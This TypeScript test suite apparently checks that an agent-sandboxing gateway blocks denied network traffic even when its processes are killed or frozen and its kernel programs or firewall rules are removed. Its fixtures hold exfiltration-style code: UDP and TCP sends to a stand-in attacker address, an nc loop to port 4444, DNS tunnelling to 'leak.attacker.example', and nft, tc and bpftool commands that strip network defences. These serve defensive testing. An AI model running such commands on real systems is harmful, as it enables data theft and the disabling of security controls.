/**
 * Whatever part of a run dies, freezes or is taken away, nothing passes that the policy denies. A hostile process stays in the agent's
 * network all the time, outside the sandbox, and never stops trying; what counts is what arrives.
 */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { setTimeout as pause } from 'node:timers/promises';
import { type Capture, type Lab, startLab } from '@cofferdam/testkit/lab';
import {
  type Attacker,
  argumentsOf,
  type ContainedAttacker,
  containedAttacker,
  descendantsOf,
  eventually,
  freeAttacker,
  isGone,
} from './attacker.ts';
import { cofferdam, containedUnavailable } from './contained.ts';

const policy = `
apiVersion: cofferdam.dev/v1
kind: SmartGroup
metadata: { name: agents }
spec: { any: [{ agent: prober }] }
---
apiVersion: cofferdam.dev/v1
kind: SmartGroup
metadata: { name: echo }
spec: { any: [{ cidr: 104.131.20.7/32 }, { cidr: "2604:a880::7/128" }] }
---
apiVersion: cofferdam.dev/v1
kind: WebGroup
metadata: { name: permitted }
spec: { domains: [example.com, registry.example] }
---
apiVersion: cofferdam.dev/v1
kind: Ruleset
metadata: { name: prober }
spec:
  rules:
    - { name: web, action: permit, from: [agents], to: [public-internet], web: [permitted], protocol: tcp, ports: [80, 443] }
    - { name: waits, action: permit, from: [agents], to: [public-internet], web: [permitted], protocol: tcp, ports: [9001], tls: required }
    - { name: echo, action: permit, from: [agents], to: [echo], protocol: any }
`;

/** Keeps on trying what the policy denies, in its own thread. */
const harass = `
def harass():
    n = 0
    while harassing[0]:
        n += 1
        for to in ('45.83.64.10', '2a0e:1d40::10'):
            try: socket.socket(family_of(to), socket.SOCK_DGRAM).sendto(b'denied %d' % n, (to, 4444))
            except OSError: pass
            s = socket.socket(family_of(to), socket.SOCK_STREAM)
            s.setblocking(False)
            try: s.connect((to, 443))
            except OSError: pass
            tried.append(s)
            if len(tried) > 40: tried.pop(0).close()
        try:
            query = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0' + b'\\x04leak\\x08attacker\\x07example\\0\\0\\x01\\0\\x01'
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ('8.8.8.8', 53))
        except OSError: pass
        rounds[0] = n
        time.sleep(0.03)
tried, rounds, harassing = [], [0], [True]
threading.Thread(target=harass, daemon=True).start()
`;
/** A pending flow to a server that pushes, and a permitted one that echoes: what comes of them later. */
const flows = `
echo = socket.create_connection(('104.131.20.7', 5000), 3)
echo.sendall(b'one')
assert echo.recv(10) == b'one'
pusher = socket.create_connection((args['pending'], 9001), 3)
pusher.sendall(b'\\x16')
datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
datagrams.connect(('104.131.20.7', 9201))
datagrams.settimeout(2)
datagrams.send(b'start')
assert datagrams.recv(10) == b'push'
`;
const push = `
def push():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(('104.131.20.7', 9201))
    clients = set()
    s.settimeout(0.05)
    while True:
        try: clients.add(s.recvfrom(100)[1])
        except OSError: pass
        for to in clients:
            try: s.sendto(b'push', to)
            except OSError: pass
threading.Thread(target=push, daemon=True).start()
def speak(sock):
    try:
        while True:
            time.sleep(0.1)
            sock.sendall(b'pushed to a pending flow')
    except OSError: pass
def pushing():
    listener = socket.create_server((args['address'], 9001))
    while True:
        sock, _ = listener.accept()
        sock.recv(1)
        threading.Thread(target=speak, args=(sock,), daemon=True).start()
threading.Thread(target=pushing, daemon=True).start()
`;

describe('never open', { skip: containedUnavailable(), timeout: 170_000 }, () => {
  let lab: Lab;
  let free: Attacker;
  let capture: Capture;

  before(async () => {
    lab = await startLab({ daemons: ['resolver', 'resolver2'] });
    free = await freeAttacker(lab, 'host');
    const server = await freeAttacker(lab, 'internet');
    await server.run(push, { address: lab.address('example.com') });
    capture = await lab.capture();
  });
  after(() => lab?.stop());

  interface Siege {
    readonly agent: ContainedAttacker;
    /** Root in the agent's network, outside the sandbox: it outlives the command. */
    readonly survivor: Attacker;
    /** Fails where anything has arrived that the policy denies, after the hostile process had its time. */
    holds(): Promise<void>;
  }

  const besiege = async (work: (siege: Siege) => Promise<void>): Promise<void> => {
    const agent = await containedAttacker(lab, { policy, options: ['--quiet'] });
    try {
      const pending = await agent.run<string>(`result = socket.gethostbyname('example.com')`);
      const survivor = await agent.rawAttacker();
      const since = await lab.mark();
      const already = (await denied()).length;
      await survivor.run(flows, { pending });
      await survivor.run(harass);
      const rounds = () => survivor.run<number>('result = rounds[0]');
      const holds = async (): Promise<void> => {
        const from = await rounds();
        await eventually('a dozen more rounds of attempts', async () => (await rounds()) > from + 12);
        const arrivals = await lab.arrivals({ since });
        const wrong = arrivals.filter(
          ({ server, kind }) =>
            server === 'attacker' || server === 'public-dns' || (kind === 'query' && server !== 'resolver'),
        );
        assert.deepEqual(wrong, []);
        assert.deepEqual((await denied()).slice(already), [], 'on the wire');
        const pushed = await survivor.run<Record<string, string>>(`result = fate(pusher, 0.3)`);
        assert.equal(pushed.data, '', 'nothing reached the client of a pending flow');
      };
      await holds();
      await work({ agent, survivor, holds });
    } finally {
      await agent.stop();
    }
  };
  /** On the wire between host and internet: what no rule permits. */
  const denied = (): Promise<readonly string[]> =>
    capture.packets(
      'dst host 45.83.64.10 or dst host 2a0e:1d40::10 or dst host 8.8.8.8 or src net 198.18.0.0/15 or src net fdc0::/16',
    );

  const speaks = (who: Attacker) =>
    who.run<boolean>(`
      try:
          echo.settimeout(1)
          echo.sendall(b'two')
          result = echo.recv(10) == b'two'
      except OSError: result = False
    `);
  const dials = (who: Attacker, to: string, port: number) =>
    who.run<string>(
      `
      began = time.monotonic()
      try:
          s = socket.create_connection((args['to'], args['port']), 3)
          result = 'open'
          s.close()
      except OSError as e: result = errno.errorcode.get(e.errno, 'silent')
      `,
      { to, port },
    );
  const datagramsCome = (who: Attacker) =>
    who.run<boolean>(`
      datagrams.setblocking(False)
      try:
          while True: datagrams.recv(10)
      except OSError: pass
      datagrams.settimeout(0.5)
      try: result = datagrams.recv(10) == b'push'
      except OSError: result = False
    `);

  test('control: without a gateway, all of it arrives', async () => {
    const since = await lab.mark();
    await free.run(harass);
    await eventually('arrivals at the attacker', async () => {
      const arrivals = await lab.arrivals({ since });
      return (
        ['datagram', 'connection'].every((kind) => arrivals.some((a) => a.kind === kind && a.server === 'attacker')) &&
        arrivals.some(({ server }) => server === 'public-dns')
      );
    });
    await free.run('harassing[0] = False');
    await pause(300);
  });

  describe('a process is killed', () => {
    test('cofferdam', async () => {
      await besiege(async ({ agent, survivor, holds }) => {
        assert.ok(await speaks(survivor), 'control: the permitted flow lives');
        const ours = descendantsOf(agent.pid);
        process.kill(agent.pid, 'SIGKILL');
        await eventually('the command dies with it', () => ours.every(isGone));
        await holds();
        assert.ok(!(await speaks(survivor)), 'what was permitted is closed too');
        assert.notEqual(await dials(survivor, '104.131.20.7', 5000), 'open');
      });
    });
    test('the sandbox, and the command', async () => {
      for (const victim of ['bwrap', 'command'] as const) {
        await besiege(async ({ agent, holds }) => {
          const pid =
            victim === 'command'
              ? agent.commandPid
              : descendantsOf(agent.pid).find((one) => argumentsOf(one)[0]?.endsWith('bwrap'));
          assert.ok(pid !== undefined);
          process.kill(pid, 'SIGKILL');
          const { code } = await agent.process.ended;
          assert.equal(code, 137);
          assert.ok(isGone(agent.commandPid));
          await holds();
        });
      }
    });
    test('at any moment of its start', async () => {
      const file = join(lab.directory, 'policy.yaml');
      await writeFile(file, policy);
      const since = await lab.mark();
      const already = (await denied()).length;
      // The command tries what is denied as soon as it lives.
      const command = ['sh', '-c', 'while :; do echo denied | nc -u -w0 45.83.64.10 4444; done'];
      for (const milliseconds of [150, 300, 400, 500, 600, 700, 800, 1000]) {
        const started = lab.spawn('host', [cofferdam, 'run', '--quiet', '--policy', file, '--', ...command]);
        await pause(milliseconds);
        const all = descendantsOf(started.child.pid!);
        const run = all.find((pid) => argumentsOf(pid).some((word) => word.endsWith('cli/src/main.ts')));
        if (run !== undefined) process.kill(run, 'SIGKILL');
        await started.ended;
        await eventually('all of it is gone', () => all.every(isGone));
      }
      assert.deepEqual(await lab.arrivals({ since, server: 'attacker' }), []);
      assert.deepEqual((await denied()).slice(already), []);
    });
  });

  describe('the kernel program is detached', () => {
    const ways: Readonly<Record<string, readonly string[]>> = {
      'from the agent’s direction': ['tc', 'filter', 'del', 'dev', 'agent0', 'ingress'],
      'from the direction toward it': ['tc', 'filter', 'del', 'dev', 'agent0', 'egress'],
      'with all of its discipline': ['tc', 'qdisc', 'del', 'dev', 'agent0', 'clsact'],
    };
    for (const [what, argv] of Object.entries(ways)) {
      test(what, async () => {
        await besiege(async ({ agent, survivor, holds }) => {
          assert.ok(await speaks(survivor), 'control');
          assert.ok(await datagramsCome(survivor), 'control');
          const removed = await agent.enter('gateway', argv);
          assert.equal(removed.code, 0, removed.stderr);
          await holds();
          assert.ok(!(await speaks(survivor)), 'a flow that was permitted stands still');
          assert.notEqual(await dials(survivor, '104.131.20.7', 5000), 'open');
          if (!argv.includes('ingress'))
            assert.ok(!(await datagramsCome(survivor)), 'no server reaches the agent any more');
          await holds();
        });
      });
    }
  });

  /** Maps of the program, by name, through the descriptors that the run holds. */
  const mapsOf = (pid: number): readonly number[] =>
    readdirSync(`/proc/${pid}/fdinfo`).flatMap((fd) => {
      const id = /^map_id:\s*(\d+)$/m.exec(readFileSync(`/proc/${pid}/fdinfo/${fd}`, 'utf8'))?.[1];
      return id === undefined ? [] : [Number(id)];
    });

  test('the tables of the program are emptied', async () => {
    await besiege(async ({ agent, survivor, holds }) => {
      const emptied: string[] = [];
      for (const id of new Set(mapsOf(agent.pid))) {
        const shown = await lab.exec('host', ['bpftool', '-j', 'map', 'show', 'id', String(id)]);
        const { name, type } = JSON.parse(shown.stdout) as { name: string; type: string };
        if (!['hash', 'lpm_trie', 'hash_of_maps', 'lru_hash'].includes(type)) continue;
        const dumped = await lab.exec('host', ['bpftool', '-j', 'map', 'dump', 'id', String(id)]);
        const keys = (JSON.parse(dumped.stdout || '[]') as { key: readonly string[] }[]).map(({ key }) => key);
        if (keys.length === 0) continue;
        const batch = keys
          .slice(0, 3000)
          .map((key) => `map delete id ${id} key hex ${key.map((byte) => byte.slice(2)).join(' ')}\n`);
        const deleted = await lab.exec('host', ['bpftool', 'batch', 'file', '-'], { input: batch.join('') });
        if (deleted.code === 0) emptied.push(name);
        await holds();
      }
      assert.ok(emptied.includes('flows'), emptied.join());
      assert.ok(!(await speaks(survivor)), 'a flow that is not known is none');
    });
    await besiege(async ({ agent, survivor, holds }) => {
      let zeroed = false;
      for (const id of new Set(mapsOf(agent.pid))) {
        const shown = await lab.exec('host', ['bpftool', '-j', 'map', 'show', 'id', String(id)]);
        const { name, bytes_value } = JSON.parse(shown.stdout) as { name: string; bytes_value: number };
        if (!name.startsWith('control')) continue;
        const zeros = Array.from({ length: bytes_value }, () => '0');
        const done = await lab.exec('host', [
          'bpftool',
          'map',
          'update',
          'id',
          String(id),
          'key',
          '0',
          '0',
          '0',
          '0',
          'value',
          ...zeros,
        ]);
        zeroed ||= done.code === 0;
      }
      assert.ok(zeroed);
      await holds();
      assert.notEqual(await dials(survivor, '104.131.20.7', 5000), 'open', 'no plan is no permit');
    });
  });

  test('the rules of the gateway’s netfilter are taken away', async () => {
    for (const words of [
      'delete table inet cofferdam',
      'flush ruleset',
      'flush table inet cofferdam',
      'flush chain inet cofferdam classify',
      'flush chain inet cofferdam forward',
      'flush chain inet cofferdam input',
    ]) {
      await besiege(async ({ agent, holds }) => {
        const done = await agent.enter('gateway', ['nft', ...words.split(' ')]);
        assert.equal(done.code, 0, done.stderr);
        await holds();
      });
    }
  });

  test('our process is frozen: what the kernel decides goes on, names do not resolve, nothing opens', async () => {
    await besiege(async ({ agent, survivor, holds }) => {
      const known = await agent.run<string>(`result = socket.gethostbyname('example.com')`);
      agent.freeze();
      try {
        await holds();
        assert.ok(await speaks(survivor), 'a live flow goes on');
        assert.equal(await dials(survivor, '104.131.20.7', 5000), 'open', 'a new one by address too');
        assert.equal(await dials(survivor, known, 443), 'open', 'and one to a name that was resolved');
        const asked = await agent.attempt(`
          s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
          s.settimeout(1)
          s.sendto(b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0' + b'\\x08registry\\x07example\\0\\0\\x01\\0\\x01', ('198.18.0.1', 53))
          s.recv(500)
        `);
        assert.ok('error' in asked, 'a new name has no answer');
        // The proxy's listener takes the connection for it, and nothing answers a request: that lasts as long as the freeze.
        const since = await lab.mark();
        const request = await survivor.run<{ end: string; data: string }>(
          `
          s = socket.create_connection((args['to'], 80), 2)
          s.sendall(b'GET / HTTP/1.1\\r\\nHost: www.example.com\\r\\n\\r\\n')
          result = fate(s, 1)
          `,
          { to: known },
        );
        assert.deepEqual([request.end, request.data], ['open', '']);
        assert.deepEqual(await lab.arrivals({ since, kind: 'request' }), []);
        await holds();
      } finally {
        agent.thaw();
      }
      await eventually(
        'names resolve again',
        async () => !('error' in (await agent.attempt(`socket.gethostbyname('registry.example')`))),
      );
      await holds();
    });
  });

  test('more events than the ring holds', async () => {
    await besiege(async ({ agent, survivor, holds }) => {
      const known = await agent.run<string>(`result = socket.gethostbyname('example.com')`);
      agent.freeze();
      try {
        // Each of these is a denial of its own, and so an event.
        await survivor.run(`
          from scapy.all import IP, UDP, Ether
          link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
          link.bind(('eth0', 0))
          whole = bytearray(bytes(Ether(src='02:cf:fd:00:00:02', dst='02:cf:fd:00:00:01') / IP(src='198.18.0.2', dst='45.83.64.10') / UDP(sport=1, dport=4444, chksum=0) / b'denied'))
          for n in range(40000):
              whole[34:36] = struct.pack('>H', 1 + n % 65000)
              whole[36:38] = struct.pack('>H', 4400 + n % 7)
              link.send(whole)
        `);
        await holds();
        assert.equal(await dials(survivor, known, 443), 'open', 'what is permitted is');
      } finally {
        agent.thaw();
      }
      await eventually(
        'it decides about names again',
        async () => !('error' in (await agent.attempt(`socket.gethostbyname('registry.example')`))),
      );
      await holds();
      const { code, stderr } = await agent.stop();
      assert.equal(code, 0);
      assert.match(stderr, /\d+ events came faster than they were read/, 'and says so');
    });
  });

  test('a full disk under the log', async () => {
    await lab.exec('host', ['sh', '-c', 'mkdir -p /run/full && mount -t tmpfs -o size=16k tmpfs /run/full']);
    const file = join(lab.directory, 'full.yaml');
    await writeFile(file, policy);
    const since = await lab.mark();
    const command = `for i in $(seq 1 60); do echo x | nc -w1 -u 45.83.64.10 $((4000 + i)) & done; wait; curl -sS -o /dev/null -w '%{http_code}' https://example.com/; exit 3`;
    const { code, stdout, stderr } = await lab.exec(
      'host',
      [cofferdam, 'run', '--quiet', '--log', '/run/full/flows', '--policy', file, '--', 'sh', '-c', command],
      { env: lab.ca.environment },
    );
    assert.deepEqual([code, stdout], [3, '200']);
    assert.match(stderr, /records could not be written: ENOSPC/);
    assert.deepEqual(await lab.arrivals({ since, server: 'attacker' }), []);
  });
});
